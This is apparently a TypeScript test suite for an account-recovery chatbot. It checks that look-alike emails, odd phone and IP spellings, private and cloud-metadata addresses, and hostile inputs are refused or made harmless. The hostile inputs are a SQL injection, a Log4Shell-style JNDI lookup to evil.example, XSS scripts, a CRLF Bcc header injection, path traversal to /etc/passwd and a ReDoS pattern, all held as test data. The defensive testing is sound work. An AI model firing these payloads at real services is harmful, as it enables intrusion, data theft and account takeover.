import { expect } from 'chai'
import { openChat } from '../stand-ins/chat.ts'
import { formChat, openWebChat, say, signInPage, signsIn } from './moves.ts'
import { linesWith, targetForSuite, victim, victimPassword } from './target.ts'

const dayMs = 24 * 3_600_000

const people = [
  {
    id: '100000000301',
    recoveryMobile: '+8613800138301',
    servers: [{ ip: '203.0.113.30' }, { ip: '2001:db8:20::89' }],
  },
  { id: '100000000302', recoveryMobile: '+8613800138302' },
  { id: '100000000303', recoveryMobile: '+8613800138302' },
  { id: '100000000304', recoveryMobile: '+393381234567' },
] as const

/** Spellings that look like the victim's address, or come to it by some folding. */
const lookalikes = [
  'l\u0131.wei@example.com',
  'li.wei@e\u0445ample.com',
  'l\u0456.wei@example.com',
  'li.we\u0456@example.com',
  'li.wei@examp\u217ce.com',
  'li.wei@ex\u0430mple.com',
  'li.wei@xn--exmple-4nf.com',
  'li.wei@example.com.evil.example',
  'li.wei@example.com@evil.example',
  'li.wei@evil.example?x=@example.com',
  'li.wei+x@example.com',
  'liwei@example.com',
  '"li.wei"@example.com',
  'li.wei@example.com,evil@evil.example',
  'li.wei@example.com\r\nBcc: evil@evil.example',
  'li.wei@[203.0.113.10]',
] as const

describe('E: identifiers', () => {
  const suite = targetForSuite(
    { CODE_RESEND_SECONDS: '0', ALLOW_DOCUMENTATION_IPS: 'true' },
    people,
  )

  beforeEach(() => {
    suite.get().clock.pass(2 * dayMs)
  })

  it('E1 sixteen look-alikes of the login email ask for a reset → no message to the typed one, whatever it folds to', async () => {
    const target = suite.get()
    for (const typed of lookalikes) {
      target.clock.pass(dayMs)
      await say(openChat(target), 'reset my password', typed)
    }
    const sent = await target.sent()
    const addresses = new Set(sent.map(({ to }) => to))
    expect([...addresses].filter((to) => to !== victim.loginEmail)).to.deep.equal([])
  })

  it('E1 the login email full-width, in capitals, with soft hyphens and unseen characters → the stored address alone, or nothing', async () => {
    const target = suite.get()
    for (const typed of [
      'LI.WEI@EXAMPLE.COM',
      'ｌｉ.ｗｅｉ@ｅｘａｍｐｌｅ.ｃｏｍ',
      'li.\u00adwei@example.com',
      'li.wei\u200b@example.com',
      '\u202eli.wei@example.com',
      'mailto:li.wei@example.com',
    ]) {
      target.clock.pass(dayMs)
      await say(openChat(target), 'reset my password', typed)
    }
    expect(new Set((await target.sent()).map(({ to }) => to))).to.deep.equal(
      new Set([victim.loginEmail]),
    )
  })

  it('E1 look-alikes sign in with the victim’s right password → refused', async () => {
    const target = suite.get()
    const page = await signInPage(target, openChat(target))
    // U+217C folds to an l, as full-width letters do to theirs: that is the stored address.
    for (const email of lookalikes.filter((each) => !each.includes('\u217c'))) {
      const done = await page.send({ email, password: victimPassword })
      expect(done.html, email).to.include('name="password"')
    }
  })

  it('E4 one number in eleven spellings → one number, and one limit for all of them', async () => {
    const target = suite.get()
    const before = (await target.sent(victim.recoveryMobile)).length
    for (const typed of [
      '+86 138 0013 8000',
      '0086 138 0013 8000',
      '13800138000',
      '138-0013-8000',
      '(138) 0013 8000',
      '+86１３８００１３８０００',
      '١٣٨٠٠١٣٨٠٠٠',
      'tel:+8613800138000',
      '+86 13800138000.',
      '<13800138000>',
      '+86 0138 0013 8000',
    ]) {
      await say(openChat(target), 'find my account', 'mobile number', typed)
    }
    const codes = (await target.sent(victim.recoveryMobile)).length - before
    expect(codes).to.be.within(1, 5)
    expect(
      (await target.sent()).filter(
        ({ to }) =>
          to.includes('138') && to !== victim.recoveryMobile && !to.startsWith('+86138001383'),
      ),
    ).to.deep.equal([])
  })

  it('E4 an extension, letters, premium and short numbers, a landline, two numbers at once → refused, nothing is sent', async () => {
    const target = suite.get()
    const before = (await target.sent()).length
    for (const typed of [
      '+8613800138000 ext. 5',
      '+86138001380OO',
      '+1 900 555 0123',
      '10086',
      '110',
      '010 6552 9988',
      '+44 909 8790000',
      '13800138000 or 13900139000',
      '+86',
    ]) {
      const heard = await say(openChat(target), 'find my account', 'mobile number', typed)
      expect(heard.step?.prompt, typed).not.to.equal('ask-code')
    }
    expect((await target.sent()).length).to.equal(before)
  })

  it('E4 an Italian number with and without its leading zero, and one digit more → never one and the same', async () => {
    const target = suite.get()
    await say(openChat(target), 'find my account', 'mobile number', '+39 338 123 4567')
    const before = (await target.sent()).length
    for (const typed of ['+39 0338 123 4567', '+39 338 123 45678', '+39 38 123 4567']) {
      await say(openChat(target), 'find my account', 'mobile number', typed)
    }
    expect((await target.sent()).length).to.equal(before)
    expect((await target.sent('+393381234567')).length).to.equal(1)
  })

  it('E5 one number of two accounts → told of both in one text to that number, none chosen, no count in the chat', async () => {
    const target = suite.get()
    const chat = openChat(target)
    const one = await say(openChat(target), 'find my account', 'mobile number', '+8613800138301')
    const two = await say(chat, 'find my account', 'mobile number', '+8613800138302')
    expect(two.text.replaceAll('02', '##')).to.equal(one.text.replaceAll('01', '##'))
    await chat.say(await target.code('+8613800138302'))
    const told = (await target.sent('+8613800138302')).filter(
      ({ template }) => template === 'account-information',
    )
    const text = told.map((each) => each.text).join('\n')
    expect(text).to.include('100000000302').and.include('100000000303')
  })

  it('E5 somebody signs in by the ID of the one account with the shared number → the other stays shut', async () => {
    const target = suite.get()
    const chat = openChat(target)
    await say(chat, 'sign in', 'use my account id and a code', '100000000302')
    await chat.say(await target.code('+8613800138302'))
    await say(chat, 'menu', 'my account')
    const sessions = []
    for await (const { row } of target.store.scan('sessions')) sessions.push(row.account)
    expect(sessions.filter((account) => account === '100000000303')).to.deep.equal([])
    expect(sessions).to.include('100000000302')
  })

  for (const spelled of [
    '0313.0.0113.10',
    '0177.0.0.1',
    '203.113.10',
    '3405803786',
    '0xcb00710a',
    '0xcb.0.0x71.0xa',
    '203.0.113.10/24',
    '203.0.113.010',
    '::ffff:203.0.113.10%eth0',
    '203.0.113.256',
    '203。0。113。10。5',
    '203.0.113',
    '203.0.113.10 203.0.113.11',
  ]) {
    it(`E6 the server’s address as ${spelled} → no account is asked about`, async () => {
      const heard = await say(openChat(suite.get()), 'find my account', 'server ip', spelled)
      expect(heard.step?.prompt).not.to.be.oneOf(['ask-full-mobile', 'ask-code'])
    })
  }

  it('E6 the plain address, full-width, with a port, in a URL, after a user, with a line end → the one server', async () => {
    for (const spelled of [
      '203.0.113.10',
      '２０３.０.１１３.１０',
      '203.0.113.10:22',
      'http://203.0.113.10/x',
      'ubuntu@203.0.113.10',
      '203.0.113.10\n',
    ]) {
      const heard = await say(openChat(suite.get()), 'find my account', 'server ip', spelled)
      expect(heard.step?.prompt, spelled).to.equal('ask-full-mobile')
      suite.get().clock.pass(dayMs)
    }
  })

  it('E6 an IPv6 address in four spellings → the one server; with a zone → refused', async () => {
    const masks = new Set<string>()
    for (const spelled of [
      '2001:db8:20::89',
      '2001:0DB8:0020:0:0:0:0:0089',
      '[2001:db8:20::89]:22',
      '2001:db8:20:0000::0:89',
    ]) {
      const heard = await say(openChat(suite.get()), 'find my account', 'server ip', spelled)
      masks.add(/•{8}\d\d/u.exec(heard.text)?.[0] ?? spelled)
    }
    expect(masks).to.deep.equal(new Set(['••••••••01']))
    const zoned = await say(openChat(suite.get()), 'find my account', 'server ip', 'fe80::1%eth0')
    expect(zoned.step?.prompt).not.to.equal('ask-full-mobile')
  })

  it('E8 private, loopback, link-local, metadata, multicast and reserved addresses → refused alike, and nothing is asked of them', async () => {
    const target = suite.get()
    for (const ip of [
      '10.0.0.1',
      '127.0.0.1',
      '169.254.169.254',
      '192.168.1.1',
      '172.16.0.1',
      '224.0.0.1',
      '0.0.0.0',
      '255.255.255.255',
      '::1',
      'fe80::1',
      'fd00::1',
      '100.64.0.1',
      '::ffff:127.0.0.1',
      '64:ff9b::7f00:1',
    ]) {
      const heard = await say(openChat(target), 'find my account', 'server ip', ip)
      expect(heard.step?.prompt, ip).to.equal('ask-server-ip')
    }
  })

  it('E8 a server goes to another account between the question and the number → the present owner alone is written to', async () => {
    const target = suite.get()
    const chat = openChat(target)
    await say(chat, 'find my account', 'server ip', '203.0.113.10')
    await target.operate({ servers: [] })
    await target.operate({ servers: [{ ip: '203.0.113.10' }] }, '100000000304')
    const before = (await target.sent(victim.recoveryMobile)).length
    await chat.say(victim.recoveryMobile)
    await target.operate({ servers: [] }, '100000000304')
    await target.operate({ servers: [{ ip: '203.0.113.10' }] })
    expect((await target.sent(victim.recoveryMobile)).length).to.equal(before)
  })

  const hostile = [
    "'; DROP TABLE accounts; --",
    '{"$gt": ""}',
    '${{1+1}}{{7*7}}${jndi:ldap://evil.example/x}',
    '<img src=x onerror=alert(1)><script>alert(1)</script>',
    '[click](javascript:alert(1)) ![x](http://evil.example/x.png)',
    '<at>everyone</at> @everyone',
    '__proto__',
    'constructor',
    '%00../../etc/passwd',
    '(a+)+$'.repeat(300),
  ] as const

  it('E9 SQL, JSON paths, templates, HTML, markdown and mentions at every question → inert: no error, never as markup in an answer', async () => {
    const target = suite.get()
    for (const way of ['mobile number', 'account id', 'server ip']) {
      for (const text of hostile) {
        const heard = await say(openChat(target), 'find my account', way, text)
        expect(heard.status, text).to.equal(200)
        expect(heard.text, text)
          .not.to.include('<img')
          .and.not.include('<script')
          .and.not.include('](')
        expect(heard.text, text).not.to.match(/RCV-/u)
      }
    }
  })

  it('E9 hostile words in the built-in chat → echoed as plain text, without what its channel would draw', async () => {
    const target = suite.get()
    const chat = await openWebChat(target)
    for (const text of hostile.slice(0, 6)) await chat.say(text)
    await chat.post({
      type: 'message',
      text: '**x**',
      textFormat: 'markdown',
      attachmentLayout: 'carousel',
      suggestedActions: { actions: [{ type: 'openUrl', value: 'https://evil.example' }] },
      entities: [{ type: 'mention' }],
      speak: 'x',
      from: { id: 'bot', role: 'bot' },
      inputHint: 'x',
    })
    const { activities } = JSON.parse(await chat.read()) as {
      activities: Record<string, unknown>[]
    }
    const own = activities.filter(({ from }) => (from as { role?: string }).role === 'user')
    expect(own.length).to.be.at.least(7)
    for (const each of own) {
      expect(each['textFormat']).to.equal('plain')
      for (const name of [
        'attachments',
        'suggestedActions',
        'entities',
        'speak',
        'attachmentLayout',
        'inputHint',
      ]) {
        expect(each, name).not.to.have.property(name)
      }
    }
  })

  it('E9 the same words at the door for pages without scripts → escaped wherever the page shows them', async () => {
    const target = suite.get()
    let html = ''
    for (const text of hostile.slice(0, 6)) html = await formChat(target, html, text)
    expect(html).to.include('&lt;img')
    expect(html).not.to.include('<img src=x').and.not.include('<script>alert')
  })

  it('E9 hostile words in the fields of pages and in names of JSON → refused, never shown again', async () => {
    const target = suite.get()
    const page = await signInPage(target, openChat(target))
    for (const text of hostile) {
      const shown = await page.send({
        email: text,
        password: text,
        code: text,
        way: text,
        action: 'x',
      })
      expect(shown.status, text).to.be.lessThan(500)
      expect(shown.html, text).not.to.include('onerror=alert').and.not.include('javascript:alert')
    }
    expect(linesWith(target.log, 'onerror')).to.deep.equal([])
  })

  it('E1 the fields of a delivery claim another number → the code goes to the stored one', async () => {
    const target = suite.get()
    const chat = openChat(target, {
      envelope: {
        channelData: { phone: '+8613600136000' },
        from: { id: '+8613600136000', name: victim.loginEmail, aadObjectId: victim.id },
      },
    })
    await signsIn(target, chat)
    expect(await target.sent('+8613600136000')).to.deep.equal([])
  })
})
